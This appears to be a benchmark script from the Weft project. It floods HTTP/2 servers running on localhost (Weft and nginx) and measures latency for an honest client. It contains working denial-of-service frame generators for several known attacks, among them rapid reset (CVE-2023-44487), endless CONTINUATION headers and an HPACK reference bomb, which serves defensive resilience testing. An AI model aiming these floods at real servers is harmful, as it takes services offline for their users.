#!/usr/bin/env python3
# Copyright 2026 The Weft Authors.
# SPDX-License-Identifier: Apache-2.0
"""Floods HTTP/2 servers, and measures what is left for an honest client: Weft's http2_server beside nginx.

    bench/compare_servers/flood.py [--seconds=4] [--rounds=3] [--bin=build/release/bin]

Two attackers send as fast as they may (`rate` below), read what is sent to them, and connect again 100 ms after their
connection has been ended. Meanwhile an honest client asks each 10 ms for /json. A server has two workers. The table has
the medians of the rounds:

  p50, p99   of the honest client, milliseconds; a request that gets no answer in 2 s counts so much
  CPU s      the server's, over the time of the flood
  ended      connections of the attackers that it has ended
"""

import argparse
import contextlib
import multiprocessing
import os
import pathlib
import random
import select
import socket
import statistics
import sys
import tempfile
import time

import compare

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
ATTACKERS = 2
PATIENCE = 2  # seconds for an answer


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    """A literal string of HPACK, without Huffman's code."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest = len(value) - 127
    return bytes([127, 0x80 | rest & 127, rest >> 7]) + value


# GET or POST, http, a path, an authority.
GET = b"\x82\x86\x04" + text(b"/json") + b"\x01" + text(b"a")
POST = b"\x83\x86\x04" + text(b"/json") + b"\x01" + text(b"a")
LARGE = b"\x82\x86\x04" + text(b"/bytes?n=65536") + b"\x01" + text(b"a")
HELLO = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


# --- The floods: each gives the bytes of a connection, piece after piece, for ever. ---


def streams():
    return range(1, 1 << 31, 2)


def bomb():
    """An entry of 4,000 bytes in the table of HPACK, then requests that name it 128,000 times by a byte each."""
    yield HELLO + frame(HEADERS, END_STREAM | END_HEADERS, 1, GET + b"\x40" + text(b"x") + text(b"y" * 3900))
    references = frame(CONTINUATION, 0, 0, b"\xbe" * 16_000)
    for stream in streams():
        if stream == 1:
            continue
        number = stream.to_bytes(4, "big")
        piece = references[:5] + number + references[9:]
        last = piece[:4] + bytes([END_HEADERS]) + piece[5:]
        yield frame(HEADERS, END_STREAM, stream, GET) + 7 * piece + last


def endless_headers():
    """A request whose header section never ends (CVE-2024-27316 and others)."""
    yield HELLO + frame(HEADERS, 0, 1, GET)
    field = b"\x00" + text(b"x") + text(b"y" * 100)
    while True:
        yield 10 * frame(CONTINUATION, 0, 1, 100 * field)


def rapid_resets():
    """CVE-2023-44487."""
    yield HELLO
    for stream in streams():
        yield frame(HEADERS, END_STREAM | END_HEADERS, stream, GET) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def made_resets():
    """The server resets: a window update of 0 bytes for each request (CVE-2025-8671)."""
    yield HELLO
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, POST) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def of_one_frame(one):
    def flood():
        yield HELLO + frame(HEADERS, END_HEADERS, 1, POST)
        while True:
            yield 1_000 * one

    return flood


def unread_answers():
    """Requests for 64 KiB each, of a client that takes none of them."""
    yield HELLO
    while True:
        for stream in streams():
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, LARGE)


FLOODS = {  # how it is called: its bytes, bytes a second of an attacker, whether it reads
    "references of HPACK": (bomb, 512_000, True),
    "endless header section": (endless_headers, 4_000_000, True),
    "rapid resets": (rapid_resets, 16_000_000, True),
    "resets made by the server": (made_resets, 16_000_000, True),
    "PING": (of_one_frame(frame(PING, 0, 0, b"12345678")), 16_000_000, True),
    "SETTINGS": (of_one_frame(frame(SETTINGS, 0, 0)), 16_000_000, True),
    "empty DATA": (of_one_frame(frame(DATA, 0, 1)), 16_000_000, True),
    "WINDOW_UPDATE of 1 byte": (of_one_frame(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")), 16_000_000, True),
    "PRIORITY": (of_one_frame(frame(PRIORITY, 0, 1, b"\0\0\0\3\x10")), 16_000_000, True),
    "unknown frames": (of_one_frame(frame(0xBB, 0, 0)), 16_000_000, True),
    "answers that are not read": (unread_answers, 4_000_000, False),
}


def attack_once(port, flood, rate, reads, until):
    """A connection; returns whether the server has ended it."""
    with socket.create_connection(("127.0.0.1", port), timeout=PATIENCE) as peer:
        peer.setblocking(False)
        begin = time.monotonic()
        sent, pending = 0, b""
        while time.monotonic() < until:
            may_write = sent < rate * (time.monotonic() - begin)
            if may_write and not pending:
                pending = next(flood)
                while len(pending) < 16_000:
                    pending += next(flood)
            ready, writable, _ = select.select([peer] if reads else [], [peer] if may_write else [], [], 0.01)
            with contextlib.suppress(BlockingIOError):
                if ready and not peer.recv(1 << 16):
                    return True
                if writable:
                    count = peer.send(pending)
                    sent, pending = sent + count, pending[count:]
    return False


def attack(port, name, until, ended):
    flood, rate, reads = FLOODS[name]
    while time.monotonic() < until:
        try:
            over = attack_once(port, flood(), rate, reads, until)
        except OSError:
            over = True
        if over:
            with ended.get_lock():
                ended.value += 1
            time.sleep(0.1)


def ask(peer, stream):
    """Whether the answer to a GET came whole, in time."""
    peer.sendall(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET))
    end, got = time.monotonic() + PATIENCE, b""
    while time.monotonic() < end:
        got += peer.recv(1 << 16)
        while len(got) >= 9 and len(got) >= 9 + int.from_bytes(got[:3], "big"):
            size, kind, flags = 9 + int.from_bytes(got[:3], "big"), got[3], got[4]
            if kind in (DATA, HEADERS) and flags & END_STREAM and int.from_bytes(got[5:9], "big") == stream:
                return True
            got = got[size:]
    return False


def honest(port, until, times):
    """Sends how long each request took to the pipe `times`."""
    taken, peer = [], None
    while time.monotonic() < until:
        begin = time.monotonic()
        try:
            if peer is None:
                peer, stream = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE), 1
                peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                peer.sendall(HELLO)
            well = ask(peer, stream)
            stream += 2
        except OSError:
            well = False
        taken.append(1e3 * (time.monotonic() - begin) if well else 1e3 * PATIENCE)
        if not well:
            peer = None
        time.sleep(max(0.0, begin + 0.01 - time.monotonic()))
    times.send(taken)


def cpu_seconds(leader):
    """Of all processes of the group."""
    total = 0
    for entry in pathlib.Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            fields = entry.read_text().rsplit(") ", 1)[1].split()
            if int(fields[2]) == leader:
                total += int(fields[11]) + int(fields[12])
    return total / os.sysconf("SC_CLK_TCK")


def measure(server, name, seconds):
    with compare.running(server) as (port, process):
        ended = multiprocessing.Value("i", 0)
        ours, theirs = multiprocessing.Pipe()
        until = time.monotonic() + seconds
        before = cpu_seconds(process.pid)
        clients = [multiprocessing.Process(target=honest, args=(port, until, theirs))]
        if name:
            clients += [multiprocessing.Process(target=attack, args=(port, name, until, ended)) for _ in range(ATTACKERS)]
        for client in clients:
            client.start()
        taken = ours.recv()
        for client in clients:
            client.join()
        if process.poll() is not None:
            sys.exit(f"flood: {server.name} ended during {name}")
        used = cpu_seconds(process.pid) - before
    percentiles = statistics.quantiles(taken, n=100)
    return percentiles[49], percentiles[98], used, ended.value


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bin", default="build/release/bin", help="where the examples were built (%(default)s)")
    parser.add_argument("--rounds", type=int, default=3, help="how often each is measured (%(default)s)")
    parser.add_argument("--seconds", type=int, default=4, help="of each flood (%(default)s)")
    parser.add_argument("--only", default="", metavar="WORD", help="floods whose name contains it")
    options = parser.parse_args()
    program = pathlib.Path(options.bin) / "http2_server"
    with tempfile.TemporaryDirectory(prefix="flood.") as scratch_name:
        scratch = pathlib.Path(scratch_name)
        scratch.chmod(0o755)  # nginx's workers are another user.
        servers = [server for server in compare.weft_servers("http2_server", program) if "2 workers" in server.name]
        servers += compare.nginx_servers(scratch, protocol=" http2")
        names = ["", *(name for name in FLOODS if options.only in name)]
        found = {(server.name, name): [] for server in servers for name in names}
        for number in range(options.rounds):
            for name in names:
                for server in random.sample(servers, len(servers)):
                    found[server.name, name].append(measure(server, name, options.seconds))
            print(f"flood: round {number + 1} of {options.rounds}", file=sys.stderr)
    print("| flood |" + "".join(f" {server.name}: p50; p99; CPU s; ended |" for server in servers))
    print("|---|" + "---|" * len(servers))
    for name in names:
        cells = []
        for server in servers:
            p50, p99, used, ended = (statistics.median(column) for column in zip(*found[server.name, name]))
            cells.append(f" {p50:.2f}; {p99:.2f}; {used:.2f}; {ended:.0f} |")
        print(f"| {name or '(none)'} |" + "".join(cells))


if __name__ == "__main__":
    main()
